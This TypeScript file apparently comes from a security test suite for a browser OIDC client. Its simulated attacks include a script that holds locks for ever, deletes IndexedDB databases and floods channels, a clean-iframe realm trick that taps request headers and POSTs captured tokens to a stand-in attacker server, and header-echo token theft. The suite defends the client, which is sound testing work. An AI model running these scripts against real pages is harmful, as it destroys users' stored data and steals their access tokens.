// Attacks: what a script can do with the client itself: block it, call it from a clean realm, have the API echo.
import * as step from '../browser/fixtures.ts'
import { attack, signedIn, type Stage } from './attack.ts'
import { choose, kindOf, realmOf } from './levels.ts'
import { tokensOf, worthOf } from './loot.ts'
import type { Outcome } from './row.ts'

const { expect } = step

/** Holds the locks whose names lie in localStorage, for ever; deletes the databases; floods channels. */
function vandalize(tab: step.Tab): Promise<string[]> {
  return tab.evaluate(async () => {
    const names = Object.keys(localStorage)
    const hold = (name: string) =>
      new Promise<void>((taken) => {
        const keep = () => (taken(), new Promise(() => {}))
        navigator.locks.request(name, { steal: true }, keep).catch(() => {})
      })
    await Promise.all(names.map(hold))
    for (const { name = '' } of await indexedDB.databases()) indexedDB.deleteDatabase(name)
    const channels = names.map((name) => new BroadcastChannel(name))
    for (let count = 0; count < 1000; count += 1)
      for (const channel of channels) channel.postMessage({ count })
    dispatchEvent(new StorageEvent('storage', { key: null }))
    return names
  })
}

/** Whether an answer comes within a minute of the page's clock. */
async function settles(stage: Stage, answer: Promise<unknown>): Promise<boolean> {
  let isDone = false
  void answer.finally(() => (isDone = true)).catch(() => undefined)
  for (let seconds = 0; seconds < 60 && !isDone; seconds += 1) await step.letTimePass(stage, 1)
  return isDone
}

attack({
  id: 'X-21',
  name: 'locks held for ever, databases deleted, channels flooded',
  timings: ['late'],
  // A Worker has its own clock, and waits for a real quarter of a minute.
  levels: ['page bearer', 'page dpop', 'worker bearer'],
  expected: 'stopped',
  async run(stage) {
    const { op, api, tab } = stage
    if (realmOf(stage.level) === 'page') await tab.takeClock()
    await signedIn(stage)
    expect(await vandalize(tab)).not.toEqual([])
    op.forgetAccessTokens()
    const answer = step.callApi(tab, `${api.origin}/orders`)
    const isSettled = realmOf(stage.level) === 'page' ? await settles(stage, answer) : Boolean(await answer)
    return isSettled ? 'stopped' : 'not stopped'
  },
  async control(stage) {
    const { tab } = stage
    await tab.takeClock()
    await signedIn(stage)
    const [name = ''] = await vandalize(tab)
    const waiting = tab.evaluate((lock) => navigator.locks.request(lock, () => 'mine'), name)
    return (await settles(stage, waiting)) ? 'stopped' : 'not stopped'
  },
})

/** Whatever arrived at the attacker's own server. */
const arrived = ({ evil }: Stage) => evil.log.map(({ body }) => body)

/** Calls the client with things of a clean realm that listens, and sends what is in them away from there. */
async function useCleanRealm(stage: Stage): Promise<Outcome> {
  const { api, evil, tab } = stage
  await tab.evaluate(
    async (asked) => {
      // The page's own realm is sealed off, as by somebody who wants to keep scripts from sending anything.
      window.fetch = () => Promise.reject(new Error('frozen'))
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const realm = frame.contentWindow as Window & typeof globalThis
      const heard: unknown[] = []
      for (const name of ['set', 'append'] as const) {
        const original = realm.Headers.prototype[name]
        realm.Headers.prototype[name] = function tapped(...rest) {
          heard.push(rest)
          return original.apply(this, rest)
        }
      }
      const request = new realm.Request(asked.url)
      const answers = [
        await window.oidc.fetch(request),
        await realm.Reflect.apply(window.oidc.fetch, realm, [new realm.URL(asked.url)]),
      ]
      for (const answer of answers) heard.push([...answer.headers], await answer.text())
      heard.push([...request.headers])
      await realm.fetch(asked.evil, { method: 'POST', body: JSON.stringify(heard), mode: 'no-cors' })
    },
    { url: `${api.origin}/orders`, evil: `${evil.origin}/loot` },
  )
  expect(arrived(stage)).not.toEqual([])
  return worthOf(arrived(stage), stage)
}

attack({
  id: 'X-22',
  name: 'objects of a clean realm given to the client, what they heard sent from there',
  timings: ['late'],
  expected: 'stopped',
  async run(stage) {
    await signedIn(stage)
    return useCleanRealm(stage)
  },
  async control(stage) {
    choose('page bearer', stage)
    await signedIn(stage)
    // A careless client: it writes into the request that it is given.
    await stage.tab.evaluate(
      (token) => {
        const { fetch } = window
        const careless = (input: Request) => {
          const request = 'headers' in Object(input) ? input : new Request(input)
          request.headers.set('authorization', `Bearer ${token}`)
          return fetch.call(window, request)
        }
        Object.defineProperty(window, 'oidc', { value: { fetch: careless } })
      },
      tokensOf(stage.op).findLast(({ cargo }) => cargo === 'access token')?.value ?? '',
    )
    return useCleanRealm(stage)
  },
})

/** A listed API that repeats the headers of the request; the script reads that as any caller does. */
async function readEcho(stage: Stage): Promise<Outcome> {
  const { api, tab } = stage
  const echo = () => JSON.stringify(api.last('resource').headers)
  api.switches.body = echo
  api.switches.headers = {}
  await signedIn(stage)
  const { body = '' } = await step.callApi(tab, `${api.origin}/echo`)
  return worthOf([body], stage)
}

attack({
  id: 'X-23',
  name: 'a listed API that echoes request headers',
  expected: ({ level }) => (kindOf(level) === 'dpop' ? 'bound to a key' : 'not stopped'),
  run: readEcho,
  control(stage) {
    choose('page bearer', stage)
    return readEcho(stage)
  },
})

attack({
  id: 'X-23',
  name: 'a listed API that echoes request headers, listed with blankEchoes',
  expected: 'stopped',
  run(stage) {
    stage.app.options['resources'] = [{ url: `${stage.api.origin}/`, blankEchoes: true }]
    return readEcho(stage)
  },
  control(stage) {
    choose('page bearer', stage)
    stage.app.options['resources'] = [`${stage.api.origin}/`]
    return readEcho(stage)
  },
})
